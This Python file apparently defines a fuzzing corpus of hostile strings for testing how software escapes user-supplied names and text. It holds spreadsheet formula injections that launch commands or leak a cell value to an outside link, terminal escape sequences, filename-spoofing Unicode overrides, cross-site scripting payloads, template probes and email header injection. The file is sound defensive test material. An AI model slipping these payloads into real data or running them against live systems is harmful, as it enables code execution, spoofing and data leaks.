"""One hostile corpus for every sink: what an account, a file or a user may call itself to harm whoever reads of it."""

CORPUS: tuple[str, ...] = (
    # spreadsheet formulas
    '=HYPERLINK("http://example.org/?x="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " \n=1+1",
    "＝1+1",
    "\ufeff=1+1",
    'a","=1+1',
    # terminal control
    "\x1b[31mred\x1b[0m",
    "\x1b]0;new title\x07",
    "\x1b]8;;http://example.org\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[1;1H",
    "\x9b31mC1",
    "over\rwritten",
    "back\x08\x08\x08space",
    "null\x00byte",
    # characters that hide or reorder
    "gpj.\u202eexe",
    "\u2066isolated\u2069",
    "zero\u200bwidth\ufeff",
    "tag\U000e0041\U000e0042",
    "line\u2028separator\u2029",
    "lone\ud800surrogate",
    "noncharacter\uffff",
    # markup
    "<script>alert(1)</script>",
    "</title></style></svg><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "<svg/onload=alert(1)>",
    "]]><!--",
    "&lt;b&gt; &#60;script&#62;",
    "javascript:alert(1)",
    "{{ 7*7 }}{% raw %}",
    "{0.__class__}",
    # headers
    "Subject\r\nBcc: victim@example.org",
    "name\nContent-Type: text/html\n\n<b>x</b>",
    # sizes and scripts
    "w" * 4000,
    "",
    " ",
    "قناة الاختبار",
    "משהו \u200f עם סימן",
    "тест",
    "👩‍👩‍👧‍👦 e\u0301",
)
